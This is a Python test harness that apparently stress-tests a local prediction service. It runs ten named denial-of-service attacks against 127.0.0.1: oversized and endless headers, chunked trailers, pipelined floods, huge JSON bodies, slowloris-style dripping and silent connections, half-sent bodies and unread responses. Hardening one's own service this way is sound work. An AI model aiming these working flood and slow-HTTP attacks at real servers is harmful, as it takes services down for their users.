"""One bad client: `python attacks.py NAME PORT SECONDS ROW_FILE` runs the attack of that name against the service."""

from __future__ import annotations

import contextlib
import json
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path

SILENT = 1000
DRIPPING = 300
BODILESS = 300


class Attacker:
    """Where the service is, until when, and a row that it takes."""

    def __init__(self, port: int, seconds: float, row: dict) -> None:
        self.address = ("127.0.0.1", port)
        self.until = time.monotonic() + seconds
        self.row = row
        self.sockets: list[socket.socket] = []

    def connect(self, patience: float = 5) -> socket.socket:
        one = socket.create_connection(self.address, patience)
        self.sockets.append(one)
        return one

    def goes_on(self) -> Iterator[None]:
        while time.monotonic() < self.until:
            yield

    def send(self, parts: Iterator[bytes], patience: float = 5) -> None:
        """Send all of it, or until the service has enough, or the time is over."""
        with contextlib.suppress(OSError), socket.create_connection(self.address, patience) as one:
            for part in parts:
                one.sendall(part)
                if time.monotonic() > self.until:
                    return
            one.recv(65536)

    def crowd(self, count: int, first: bytes) -> None:
        """Open so many connections and send the same on each."""
        for _ in range(count):
            with contextlib.suppress(OSError):
                self.connect().sendall(first)

    def drip(self, byte: bytes, every: float) -> None:
        for _ in self.goes_on():
            for one in list(self.sockets):
                try:
                    one.send(byte)
                except OSError:
                    self.sockets.remove(one)
            time.sleep(every)

    def head(self, length: int, more: bytes = b"") -> bytes:
        return b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n%s\r\n" % (length, more)

    def request(self, body: bytes) -> bytes:
        return self.head(len(body)) + body

    def rows(self, count: int) -> bytes:
        return json.dumps({"rows": [self.row] * count}).encode()


def head_of_200_mb(attacker: Attacker) -> None:
    def parts() -> Iterator[bytes]:
        yield b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: "
        for _ in range(200):
            yield b"x" * 2**20

    for _ in attacker.goes_on():
        attacker.send(parts())


def lines_100_000(attacker: Attacker) -> None:
    def parts() -> Iterator[bytes]:
        yield b"GET / HTTP/1.1\r\nHost: x\r\n"
        for _ in range(100):
            yield b"".join(b"x%d: y\r\n" % number for number in range(1000))

    for _ in attacker.goes_on():
        attacker.send(parts())


def trailers(attacker: Attacker) -> None:
    body = attacker.rows(1)

    def parts() -> Iterator[bytes]:
        yield b"POST /predict HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        yield b"%x\r\n%s\r\n0\r\n" % (len(body), body)
        for _ in range(100):
            yield b"".join(b"x%d: y\r\n" % number for number in range(1000))

    for _ in attacker.goes_on():
        attacker.send(parts())


def pipelined(attacker: Attacker) -> None:
    """Twelve megabytes of requests on each connection, whose answers nobody reads."""
    small = b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n" * 2000
    prediction = attacker.request(attacker.rows(1)) * 100

    def parts(request: bytes) -> Iterator[bytes]:
        while True:
            yield request

    for _ in attacker.goes_on():
        for request in (small, prediction):
            with contextlib.suppress(OSError):
                attacker.connect(0.5)
                for part in parts(request):
                    attacker.sockets[-1].sendall(part)


def keys_80_000(attacker: Attacker) -> None:
    """Twenty at once, again and again: one with unknown keys alone, one that has the columns as well."""
    unknown = {f"k{number}": number for number in range(80_000)}
    bodies = [
        json.dumps({"rows": [row]}, separators=(",", ":")).encode()
        for row in (unknown, {**attacker.row, **dict(list(unknown.items())[:70_000])})
    ]
    requests = [attacker.request(body) for body in bodies]
    for _ in attacker.goes_on():
        many = [attacker.connect() for _ in range(20)]
        for number, one in enumerate(many):
            with contextlib.suppress(OSError):
                one.sendall(requests[number % 2])
        for one in many:
            with contextlib.suppress(OSError), one:
                one.recv(65536)


def silent(attacker: Attacker) -> None:
    attacker.crowd(SILENT, b"")
    attacker.drip(b"", 0.2)


def dripping(attacker: Attacker) -> None:
    attacker.crowd(DRIPPING, b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    attacker.drip(b"x", 0.2)


def bodiless(attacker: Attacker) -> None:
    attacker.crowd(BODILESS, attacker.head(900))
    attacker.drip(b"", 0.2)


def half_bodies(attacker: Attacker) -> None:
    """All but the last byte of the largest body, on as many connections as there are descriptors for."""
    attacker.crowd(BODILESS, attacker.head(2**20) + b" " * (2**20 - 1))
    attacker.drip(b"", 0.2)


def unread(attacker: Attacker) -> None:
    """Large answers that nobody reads, through a window as small as can be; the service takes no question too fast."""
    request = attacker.request(attacker.rows(500))
    unsent = {}
    for _ in range(5):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        one.connect(attacker.address)
        one.setblocking(False)
        unsent[one] = request
    for _ in attacker.goes_on():
        for one, rest in unsent.items():
            with contextlib.suppress(OSError):
                unsent[one] = rest[one.send(rest) :] or request
        time.sleep(0.01)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        *(head_of_200_mb, lines_100_000, trailers, pipelined, keys_80_000, silent, dripping),
        *(bodiless, half_bodies, unread),
    )
}


if __name__ == "__main__":
    name, port, seconds, row_file = sys.argv[1:]
    row = json.loads(Path(row_file).read_text())["rows"][0]
    ATTACKS[name](Attacker(int(port), float(seconds), row))
